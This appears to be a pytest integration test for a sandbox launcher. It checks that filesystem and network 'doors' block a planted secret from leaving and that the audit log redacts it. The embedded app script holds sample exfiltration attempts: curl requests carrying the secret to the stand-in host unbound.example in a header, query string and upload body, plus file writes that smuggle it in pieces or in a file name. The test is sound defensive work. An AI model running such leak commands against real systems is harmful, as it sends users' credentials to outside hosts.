"""Every other door refuses the secrets the keys door keeps, in a real session, as root.

The app found the secret (the test planted it in the workspace, readable by the app, as a leaked `.env` would
be) and tries to put it where it should not go: the fs door refuses it whole, split across two appends, split
across two files written one after the other, and in a file's name; the net door refuses plain HTTP carrying it
(target, header, body) to a host its row does not bind it to, and lets a request to the bound host on to its
next check. The launcher's audit redacts every line that would hold it. Then the test scans, as root, the audit
log, the launcher's stderr and every file the session left: no 16-byte run of the secret anywhere.
"""

from __future__ import annotations

import json
import secrets
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.integration._session import (
    LAUNCHER,
    basic_manifest,
    leftovers,
    manifest_hash,
    probes_and_summary,
    write_manifest,
)

pytestmark = pytest.mark.root

APP = r"""
import json, subprocess, sys
from doors.fs.client import DoorRefused, FsClient
secret = open(LEAK, "rb").read().strip()
def report(name, **fields):
    print(json.dumps({"probe": name, **fields}), flush=True)
def fs_try(name, call):
    try:
        call()
        report(name, status=200)
    except DoorRefused as exc:
        report(name, status=exc.refusal.status, row=exc.refusal.row, detail_holds=secret.decode() in exc.refusal.detail,
               names_row="doors.keys.secrets.db" in exc.refusal.detail)
def curl(name, url, *args):
    done = subprocess.run(["curl", "-sS", "--max-time", "20", "-x", "http://127.0.0.1:3128", "-o", "/dev/null",
                           "-D", "-", "-w", "%{http_code}", *args, url], capture_output=True, text=True)
    refusal = [line.split(":", 1)[1].strip() for line in done.stdout.splitlines()
               if line.lower().startswith("x-sharness-refusal:")]
    report(name, status=done.stdout.strip().splitlines()[-1] if done.stdout.strip() else "", refusal=refusal)
with FsClient.from_env() as fs:
    fs_try("fs.whole", lambda: fs.write("notes.txt", b"key = " + secret + b"\n"))
    fs.append("log.txt", b"first half: " + secret[:10])
    fs_try("fs.two_appends", lambda: fs.append("log.txt", secret[10:24] + b"\n"))
    fs.write("a.txt", secret[:10])
    fs_try("fs.two_files", lambda: fs.write("b.txt", secret[10:24]))
    fs_try("fs.named", lambda: fs.write(secret.decode() + ".txt", b"x"))
    fs_try("fs.control", lambda: fs.write("clean.txt", b"nothing kept here\n"))
s = secret.decode()
curl("net.header", "http://unbound.example/", "-H", "Authorization: Bearer " + s)
curl("net.target", "http://unbound.example/?token=" + s)
curl("net.body", "http://unbound.example/upload", "--data-binary", "payload=" + s)
curl("net.control", "http://unbound.example/")
curl("net.bound", "http://localhost/", "-H", "Authorization: Bearer " + s)
curl("net.authority", "http://" + s + ".example/")
"""


def _run(tmp_path: Path) -> tuple[dict[str, dict[str, Any]], dict[str, Any], str, bytes]:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    value = secrets.token_hex(20).encode()  # 40 characters, a valid DNS label: also tried as a host name
    leak = workspace / ".env"
    leak.write_bytes(value + b"\n")
    source_dir = tmp_path / "secrets"
    source_dir.mkdir(mode=0o700)
    source = source_dir / "db.key"
    source.write_bytes(value + b"\n")
    source.chmod(0o600)
    document = basic_manifest(workspace, [sys.executable, "-c", APP.replace("LEAK", repr(str(leak)))])
    document["app"]["files"]["read"] = [str(workspace)]  # type: ignore[index]
    document["doors"]["net"] = {"allow": {"app": ["unbound.example:80", "localhost:80"]}}  # type: ignore[index]
    document["doors"]["keys"] = {"secrets": {"db": {"from": str(source), "roles": ["net"],  # type: ignore[index]
                                                    "hosts": ["localhost"]}}}
    document["edges"] = [["app", "fs"], ["app", "net"], ["net", "keys"]]
    manifest = write_manifest(tmp_path, document)
    audit_dir = tmp_path / "audit"
    done = subprocess.run([*LAUNCHER, "run", str(manifest), "--expect-hash", manifest_hash(manifest), "--audit-dir",
                           str(audit_dir), "--json", "--best-effort"], capture_output=True, text=True, timeout=300,
                          stdin=subprocess.DEVNULL)
    assert done.returncode == 0, done.stdout + done.stderr
    probes, summary = probes_and_summary(done.stdout)
    assert summary["teardown_errors"] == [] and leftovers(summary["sid"]) == {}
    return probes, summary, done.stderr, value


def _runs(value: bytes) -> list[bytes]:
    return [value[start : start + 16] for start in range(len(value) - 15)]


def test_the_doors_refuse_the_kept_secret_and_the_audit_redacts_it(tmp_path: Path) -> None:
    probes, summary, stderr, value = _run(tmp_path)
    kept = {"status": 403, "row": "refuse_secrets", "detail_holds": False, "names_row": True}
    for name in ("fs.whole", "fs.two_appends", "fs.two_files", "fs.named"):
        assert {k: probes[name].get(k) for k in kept} == kept, probes[name]
    assert probes["fs.control"]["status"] == 200
    workspace = tmp_path / "ws"
    assert (workspace / "log.txt").read_bytes() == b"first half: " + value[:10]
    assert not (workspace / "b.txt").exists() and not (workspace / "notes.txt").exists()

    refused = {"status": "403", "refusal": ["kept-secret; row=doors.keys.secrets.db.hosts"]}
    for name in ("net.header", "net.target", "net.body"):
        assert probes[name] == {"probe": name, **refused}, json.dumps(probes)
    # The controls: without the secret the same host gets as far as resolving (and fails: it does not exist);
    # with it, the bound host gets past the secret check to the address check.
    assert probes["net.control"]["status"] == "502"
    assert probes["net.bound"]["refusal"] == ["loopback; row=doors.net.public_addresses"]
    assert probes["net.authority"]["refusal"] == ["not-allowlisted; row=doors.net.allow"]

    audit = Path(summary["audit_dir"], "audit.jsonl").read_bytes()
    events = [json.loads(line) for line in audit.splitlines()]
    marks = [event for event in events if "[redacted:kept:" in json.dumps(event)]
    assert any(event.get("op") == "write" and str(event.get("path", "")).startswith("[redacted:kept:")
               for event in marks), marks
    assert any(str(event.get("requested", "")).startswith("http://[redacted:kept:") for event in marks), marks
    assert any(event["event"] == "keys.fingerprint" and event["names"] == ["db"] for event in events)
    written = [path for root in (workspace, Path(summary["audit_dir"])) for path in root.rglob("*")
               if path.is_file() and path.name != ".env"]
    assert written
    for run in _runs(value):
        assert run not in audit and run.decode() not in stderr
        for path in written:
            assert run not in path.read_bytes() and run.decode() not in str(path)
